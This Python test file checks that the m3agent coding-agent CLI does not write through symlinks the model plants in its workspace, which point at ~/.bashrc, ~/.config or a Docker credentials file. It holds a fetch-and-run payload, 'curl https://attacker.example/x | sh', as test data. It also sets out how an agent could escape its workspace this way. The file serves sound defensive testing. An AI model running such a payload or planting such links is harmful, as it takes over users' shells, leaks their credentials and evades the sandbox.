"""Issue 36, round 5: files m3agent writes at a path the user names, in a workspace the model
writes. The model plants `answer.md -> ~/.bashrc` (or a directory link `out -> ~/.config`)
before the user asks for `-o answer.md` or `/export`; the write must replace the link, or
refuse, never write through it into a file outside the workspace. Each has its control: the
write the product did before (an ordinary open by name) goes through the same link and
clobbers the file outside."""

from __future__ import annotations

import json
import os
import stat
from pathlib import Path

import pytest
from m3agent.agent.session_export import write_export
from m3agent.app import exit_codes
from m3agent.tools.out_file import OutRefused, write_out

from ..support.cli import CONSOLE_SCRIPT, run_cli
from ..support.markup import answer

PAYLOAD = "curl https://attacker.example/x | sh"


@pytest.fixture
def planted(tmp_path: Path) -> tuple[Path, Path, Path]:
    """(workspace, the user's ~/.bashrc outside it, a directory of theirs outside it), with
    the model's links to both in the workspace."""
    ws, outside = tmp_path / "ws", tmp_path / "victim"
    ws.mkdir()
    (outside / ".config").mkdir(parents=True)
    bashrc = outside / ".bashrc"
    bashrc.write_text("# the user's own\n")
    (ws / "answer.md").symlink_to(bashrc)
    (ws / "out").symlink_to(outside / ".config")
    return ws, bashrc, outside / ".config"


def test_output_last_message_does_not_write_through_a_planted_link(planted, cli, home):
    ws, bashrc, config_dir = planted
    script = cli.script(answer(PAYLOAD))
    base = ("run", "x", "--engine", "scripted", "--script", str(script), "--approval", "never")
    r = run_cli(home, *base, "-o", "answer.md", cwd=ws, command=CONSOLE_SCRIPT, timeout=60)
    assert r.returncode == exit_codes.OK, r.stderr
    assert bashrc.read_text() == "# the user's own\n"
    entry = ws / "answer.md"  # the link itself was replaced by the answer, 0600
    assert not entry.is_symlink() and entry.read_text() == PAYLOAD
    assert stat.S_IMODE(entry.stat().st_mode) == 0o600

    # through a directory link in the workspace: refused, one line, nothing made outside
    r = run_cli(home, *base, "-o", "out/autostart.md", cwd=ws, command=CONSOLE_SCRIPT, timeout=60)
    assert r.returncode == exit_codes.INTERNAL_ERROR
    last = r.stderr.splitlines()[-1]
    assert last.startswith("error: cannot write out/autostart.md: a symlink in the workspace")
    assert "Traceback" not in r.stderr
    assert list(config_dir.iterdir()) == []

    # control: the write the product did before follows both links
    (ws / "answer.md").unlink()
    (ws / "answer.md").symlink_to(bashrc)
    (ws / "answer.md").write_text(PAYLOAD)
    (ws / "out" / "autostart.md").write_text(PAYLOAD)
    assert bashrc.read_text() == PAYLOAD and (config_dir / "autostart.md").exists()


def test_export_never_writes_through_a_planted_temp_name_or_link(planted):
    """The export's temp file was `.NAME.<pid>.tmp` beside it, opened by name: a link planted
    under that name (a few thousand pids are cheap to cover) received the whole session."""
    ws, bashrc, config_dir = planted
    target = ws / "m3agent-s1.md"
    (ws / f".{target.name}.{os.getpid()}.tmp").symlink_to(bashrc)
    old = os.umask(0)
    try:
        write_export(target, "# m3agent session s1\n", roots=(ws,))
    finally:
        os.umask(old)
    assert bashrc.read_text() == "# the user's own\n"
    assert target.read_text() == "# m3agent session s1\n"
    assert stat.S_IMODE(target.stat().st_mode) == 0o600  # umask 000 gave 0666 before

    # a dangling link at the name: it exists (asked first), and replacing replaces the link
    (ws / "m3agent-s2.md").symlink_to(config_dir / "new.md")
    with pytest.raises(FileExistsError):
        write_export(ws / "m3agent-s2.md", "x", roots=(ws,))
    write_export(ws / "m3agent-s2.md", "x", roots=(ws,), replace=True)
    assert list(config_dir.iterdir()) == [] and (ws / "m3agent-s2.md").read_text() == "x"
    with pytest.raises(OutRefused, match="leads it outside"):
        write_export(ws / "out" / "m3agent-s3.md", "x", roots=(ws,))
    extra = ws.parent / "extra"  # an --add-dir directory: the model writes there too
    extra.mkdir()
    (extra / "out").symlink_to(config_dir)
    with pytest.raises(OutRefused, match="leads it outside"):
        write_export(extra / "out" / "m3agent-s4.md", "x", roots=(ws, extra))

    # control: the temp file opened by name, as before, writes through the planted link
    (ws / f".{target.name}.{os.getpid()}.tmp").write_text("# m3agent session s1\n")
    assert bashrc.read_text() == "# m3agent session s1\n"


def test_links_above_the_workspace_are_the_users_and_followed(tmp_path):
    """The user's own layout: a workspace reached through a link, an output directory
    elsewhere. Only links inside the workspace are the model's."""
    real = tmp_path / "real-ws"
    real.mkdir()
    (tmp_path / "ws").symlink_to(real)
    write_out(tmp_path / "ws" / "a.json", json.dumps({}), roots=(tmp_path / "ws",), replace=True)
    assert (real / "a.json").read_text() == "{}"
    (real / "inner").mkdir()
    (real / "here").symlink_to(real / "inner")  # a link that stays inside: written
    write_out(real / "here" / "b.md", "b", roots=(real,), replace=False)
    assert (real / "inner" / "b.md").read_text() == "b"
    elsewhere = tmp_path / "exports"
    elsewhere.mkdir()
    write_out(elsewhere / "c.md", "c", roots=(real,), replace=False)
    assert (elsewhere / "c.md").read_text() == "c"


def test_mcp_add_project_neither_writes_nor_copies_through_a_planted_mcp_json(
    tmp_path, monkeypatch, home
):
    """`.mcp.json -> ~/.docker/config.json`: `mcp add --scope project` read the tokens through
    the link and wrote them back through it (a file outside the workspace rewritten); with
    the link replaced instead, it would have copied them into the workspace. Now the read
    follows the session's host read policy (refused: a secret location; any other file of the
    home would be refused as out of the sandbox's view) and nothing is written. Control: the plain read gets the tokens."""
    from m3agent.app.cli import build_app
    from m3agent.engine.json_file import read_json_object
    from typer.testing import CliRunner

    user, ws = tmp_path / "user", tmp_path / "ws"
    (user / ".docker").mkdir(parents=True)
    ws.mkdir()
    docker = user / ".docker" / "config.json"
    docker.write_text('{"auths": {"ghcr.io": {"auth": "REGISTRY-TOKEN-7"}}}')
    (ws / ".mcp.json").symlink_to(docker)
    monkeypatch.setenv("HOME", str(user))
    monkeypatch.chdir(ws)
    add = ["mcp", "add", "srv", "--scope", "project", "-e", "T=1", "--", "server-cmd"]
    r = CliRunner().invoke(build_app(), add)
    assert r.exit_code == 2 and ".mcp.json: not read (a secret location" in r.output
    assert docker.read_text() == '{"auths": {"ghcr.io": {"auth": "REGISTRY-TOKEN-7"}}}'
    assert (ws / ".mcp.json").is_symlink() and "REGISTRY" not in r.output

    # an ordinary project: the file is written, 0600 (it may hold -e TOKEN=...)
    (ws / ".mcp.json").unlink()
    r = CliRunner().invoke(build_app(), add)
    assert r.exit_code == 0, r.output
    assert json.loads((ws / ".mcp.json").read_text())["mcpServers"]["srv"]["env"] == {"T": "1"}
    assert stat.S_IMODE((ws / ".mcp.json").stat().st_mode) == 0o600

    # control: the read the store did before takes the tokens through the same link
    (ws / ".mcp.json").unlink()
    (ws / ".mcp.json").symlink_to(docker)
    assert "REGISTRY-TOKEN-7" in json.dumps(read_json_object(ws / ".mcp.json"))


def test_outside_the_model_s_directories_special_names_are_written_as_named(tmp_path):
    """`-o /dev/stdout`, a FIFO a script reads, the user's own link: outside the directories
    the model writes they are written into, as before, not replaced by a file. The same
    FIFO planted in the workspace is replaced (the model's)."""
    import threading

    ws = tmp_path / "ws"
    ws.mkdir()
    fifo = tmp_path / "answer.fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    write_out(fifo, "through the pipe", roots=(ws,), replace=True)
    reader.join(10)
    assert got == [b"through the pipe"] and stat.S_ISFIFO(fifo.stat().st_mode)
    (tmp_path / "latest.md").symlink_to(tmp_path / "2026-12-07.md")
    (tmp_path / "2026-12-07.md").write_text("old, longer text\n")
    write_out(tmp_path / "latest.md", "new\n", roots=(ws,), replace=True)
    assert (tmp_path / "2026-12-07.md").read_text() == "new\n"
    os.mkfifo(ws / "answer.md")  # the model's: would block a plain open; replaced
    write_out(ws / "answer.md", "x", roots=(ws,), replace=True)
    assert (ws / "answer.md").read_text() == "x"
